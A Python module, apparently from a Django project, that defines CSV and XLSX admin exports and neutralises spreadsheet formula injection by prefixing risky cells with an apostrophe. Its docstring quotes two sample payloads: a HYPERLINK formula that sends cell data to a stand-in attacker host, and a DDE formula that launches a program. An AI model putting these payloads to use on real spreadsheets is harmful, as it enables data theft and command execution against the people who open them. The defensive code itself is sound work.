"""The file formats of every admin export (settings.EXPORT_FORMATS, read by django-import-export).

Exports are opened in spreadsheets, and their cells come from outside: signatories from
partners' files and public petition sheets, names and notes typed anywhere. A cell beginning
with `=`, `+`, `-`, `@`, a tab or a carriage return is taken for a formula by Excel, LibreOffice
and Google Sheets: `=HYPERLINK("https://evil.example/?leak="&A2,"Click")` sends the next cell
away when clicked, `=cmd|' /C calc'!A0` asks to run a program. Such a cell is written with a
`'` before it (OWASP's advice for CSV injection), so that it is read as text and keeps every
character; import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not used, since it
only drops a leading `=` (leaving `+`, `-` and `@` formulas live) and so changes the data.
A phone number `+44 20 7946 0958` comes out as `'+44 20 7946 0958`: visible, but whole.

Only CSV and XLSX are offered: staff need spreadsheets, and JSON, YAML, TSV or HTML would be
more ways out, each with its own escaping to get right. The CSV starts with a byte-order mark:
without it Excel reads UTF-8 as the local code page, and Chinese or Vietnamese names come out
garbled."""

import tablib
from import_export.formats import base_formats

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value to write in a cell: text a spreadsheet would evaluate gets a leading `'`.

    Numbers, dates and empty cells are left alone: a typed cell (XLSX) is never a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class NeutralisingFormat(base_formats.TablibFormat):
    """Every cell of the export, whichever record, column and resource, goes through neutralise."""

    def export_data(self, dataset, **kwargs):
        safe = tablib.Dataset(headers=dataset.headers, title=dataset.title)
        for row in dataset:
            safe.append([neutralise(cell) for cell in row])
        return super().export_data(safe, **kwargs)


class CSV(NeutralisingFormat, base_formats.CSV):
    BOM = "\ufeff"

    def export_data(self, dataset, **kwargs):
        return self.BOM + super().export_data(dataset, **kwargs)


class XLSX(NeutralisingFormat, base_formats.XLSX):
    """Every cell is text, as in the CSV: import-export gives native types (numbers, dates) only
    to its own format classes (BINARY_FORMATS, compared by exact type)."""


EXPORT_FORMATS = [CSV, XLSX]
